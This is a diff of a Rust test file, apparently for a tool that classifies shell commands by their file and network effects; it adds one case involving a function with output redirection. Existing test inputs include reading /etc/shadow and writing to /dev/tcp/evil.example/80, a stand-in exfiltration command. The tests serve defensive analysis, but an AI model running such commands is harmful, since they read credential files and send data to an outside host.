@@ -252,6 +252,7 @@ fn redirections_are_effects_of_their_command() {
         ("cat < a > b 2>> c", &["cat [read ./a, write ./b, write ./c]"]),
         ("cat a >/dev/null 2>&1 <&-", &["cat a [read ./a]"]),
         ("> a", &["[write ./a]"]),
+        ("f() { cat; } > a; f", &["[write ./a]", "cat", "f"]),
         ("{ cat; } < /etc/shadow", &["[read /etc/shadow]", "cat"]),
         ("echo x 1<> a", &["echo x [read ./a, write ./a]"]),
         ("echo x > /dev/tcp/evil.example/80", &["echo x [network host:evil.example:80]"]),
